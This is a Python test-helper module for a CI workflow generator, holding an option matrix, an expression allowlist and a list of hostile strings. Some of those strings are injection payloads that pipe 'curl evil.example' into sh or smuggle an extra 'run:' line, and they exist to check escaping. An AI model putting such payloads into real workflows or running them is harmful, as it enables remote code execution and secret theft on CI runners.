"""Helpers of the CI workflow tests: a matrix of options, hostile strings, and what a run step may contain."""

from __future__ import annotations

import re

import yaml

from pipelines.cicd.options import WorkflowOptions

# Options that together cover every branch of the generator.
MATRIX: dict[str, dict] = {
    "defaults": {},
    "offline, no tests": {"validate_mode": "offline", "tests": False},
    "deploy only": {"deploy": True},
    "deploy and run two": {"deploy": True, "pipelines": ["orders-daily", "load_customers"]},
    "everything": {
        "folder": "infra/sluice/pipelines",
        "name": "Data pipelines (Sluice)",
        "workflow_file": "data-pipelines.yaml",
        "branch": "release/2026.1",
        "deploy": True,
        "pipelines": ["orders-daily"],
        "environment": "production eu",
        "schedule": "15 3 * * 1-5",
        "python_version": "3.13",
        "runner": "ubuntu-22.04",
        "timeout_minutes": 90,
        "url_from": "secrets",
        "url_variable": "SLUICE_PROD_URL",
        "token_secret": "SLUICE_PROD_TOKEN",
    },
    "client from a folder": {"client_source": "path", "client_path": "tools/sluice-client", "validate_mode": "offline"},
    "client from an index": {
        "client_source": "index",
        "client_index_url": "https://pypi.example.com/simple/",
        "client_version": "1.4.0",
        "deploy": True,
        "pipelines": ["orders-daily"],
    },
    "client from an index, any version": {
        "client_source": "index",
        "client_index_url": "https://pypi.example.com/simple/",
    },
    "secrets only": {"url_from": "secrets", "python_version": "3.12", "runner": "ubuntu-22.04"},
}

# Strings that would break out of a YAML scalar, a shell word or into a GitHub expression if spliced in.
HOSTILE = [
    "${{ secrets.GITHUB_TOKEN }}",
    "${{github.event.pull_request.title}}",
    "a'; curl evil.example | sh; echo '",
    'a" && curl evil.example | sh && echo "',
    "$(curl evil.example)",
    "`id`",
    "a\nrun: curl evil.example",
    "a: b",
    "{a: b}",
    "[x]",
    "# comment",
    "&anchor",
    "*alias",
    "--help",
    "-rf",
    "a b",
    "a\\b",
    "a\x00b",
    "main' || true || '",
    "$HOME",
    "a;b",
    "a|b",
    "a>b",
]

# The only expressions a generated workflow contains: references to the repository's own variables and secrets,
# and github.* fields no user controls.
ALLOWED_EXPRESSIONS = re.compile(
    r"^\$\{\{ (?:"
    r"(?:vars|secrets)\.[A-Za-z_][A-Za-z0-9_]*"
    r"|github\.workflow|github\.ref|github\.repository"
    r"|github\.event_name == 'pull_request'"
    r"|!cancelled\(\)"
    r") \}\}$"
)


def options(**data) -> WorkflowOptions:
    return WorkflowOptions.model_validate(data)


def run_steps(workflow: str) -> list[tuple[str, dict, str]]:
    """``(job, step, run script)`` of every run step."""
    document = yaml.safe_load(workflow)
    return [
        (job_id, step, step["run"])
        for job_id, job in document["jobs"].items()
        for step in job["steps"]
        if "run" in step
    ]
